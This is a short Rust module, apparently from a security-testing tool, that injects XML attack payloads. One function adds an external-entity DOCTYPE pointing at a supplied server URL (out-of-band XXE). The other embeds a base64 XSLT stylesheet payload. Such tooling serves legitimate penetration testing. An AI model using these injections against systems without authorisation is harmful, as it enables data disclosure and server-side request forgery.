//! XXE and XSLT payload injection.
//!
//! Both payloads go right after the XML declaration, or at the very start of
//! documents that have none.

use std::sync::LazyLock;

use base64::{Engine as _, engine::general_purpose::STANDARD};
use regex::Regex;
use tracing::debug;

static XML_DECLARATION: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)^\s*<\?xml[^?]*\?>\s*").expect("Invalid regex pattern for XML declaration")
});

/// Inserts an external parameter entity DOCTYPE pointing at `server_url`.
///
/// The URL is written verbatim, escaping it is the caller's business.
pub fn apply_xxe(xml: &str, server_url: &str) -> String {
    let doctype = format!(
        "<!DOCTYPE foo [\n  <!ENTITY % xxe SYSTEM \"{server_url}\">\n  %xxe;\n]>"
    );
    debug!("Injecting XXE DOCTYPE for {server_url}");

    match XML_DECLARATION.find(xml) {
        Some(decl) => format!("{}{doctype}{}", decl.as_str(), &xml[decl.end()..]),
        None => format!("{doctype}{xml}"),
    }
}

/// Embeds `payload` as a base64 `data:` URI stylesheet processing instruction.
pub fn apply_xslt(xml: &str, payload: &str) -> String {
    let stylesheet = format!(
        "<?xml-stylesheet type=\"text/xsl\" href=\"data:text/xml;base64,{}\"?>",
        STANDARD.encode(payload.as_bytes())
    );
    debug!("Injecting XSLT stylesheet with a {} byte payload", payload.len());

    match XML_DECLARATION.find(xml) {
        Some(decl) => format!("{}\n{stylesheet}\n{}", decl.as_str(), &xml[decl.end()..]),
        None => format!("{stylesheet}\n{xml}"),
    }
}
